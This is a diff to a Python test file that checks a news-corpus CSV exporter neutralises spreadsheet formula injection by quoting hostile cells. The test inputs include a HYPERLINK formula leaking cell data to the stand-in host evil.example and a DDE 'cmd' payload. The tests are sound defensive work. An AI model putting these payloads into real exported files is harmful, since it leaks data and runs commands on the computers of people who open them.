@@ -8,8 +8,9 @@ import json
 from pathlib import Path
 
 import pyarrow.parquet as pq
+import pytest
 
-from newsdesk.record import Record
+from newsdesk.record import PageSource, Record
 from newsdesk.store.export import CSV_COLUMNS, read_parquet, write_csv, write_jsonl, write_parquet
 
 CORPUS = Path(__file__).parent.parent / "data" / "store" / "corpus.jsonl"
@@ -57,3 +58,62 @@ def test_an_empty_export_is_a_valid_file(tmp_path: Path) -> None:
     out = io.StringIO()
     assert write_csv([], out) == 0
     assert out.getvalue().strip() == ",".join(CSV_COLUMNS)
+
+
+def csv_row(record: Record) -> dict[str, str]:
+    out = io.StringIO()
+    write_csv([record], out)
+    return next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1, "Click")',
+        "=1+1",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "-1e3 up",
+    ],
+)
+def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(hostile: str) -> None:
+    record = Record(
+        id="a1",
+        source=PageSource(url="https://example.com/a1"),
+        body=hostile,
+        title=hostile,
+        authors=(hostile, "Jane Doe"),
+        tags=(hostile,),
+        summary=hostile,
+    )
+    row = csv_row(record)
+    for column in ("title", "body", "summary"):
+        assert row[column] == "'" + hostile
+    assert row["authors"] == f"'{hostile}; Jane Doe"
+    assert row["tags"] == "'" + hostile
+    assert row["id"] == "a1" and row["url"] == "https://example.com/a1"  # the rest as they were
+    assert row["quotes"] == "0"  # numbers stay numbers
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "-3.2",
+        "+1",
+        "-0.5e-3",
+        "Oil falls 3.2% = a two-year low",
+        "Jane Doe; =SUM(A1)",  # a formula starts a cell or not at all
+        "'=1+1",
+        "first line\rsecond line",  # a CR inside a cell does not split the row
+        "",
+    ],
+)
+def test_csv_numbers_and_harmless_text_are_written_as_they_are(text: str) -> None:
+    record = Record(id="a1", source=PageSource(), body=text, title=text)
+    out = io.StringIO()
+    write_csv([record, record], out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    assert [(r["title"], r["body"]) for r in rows] == [(text, text)] * 2
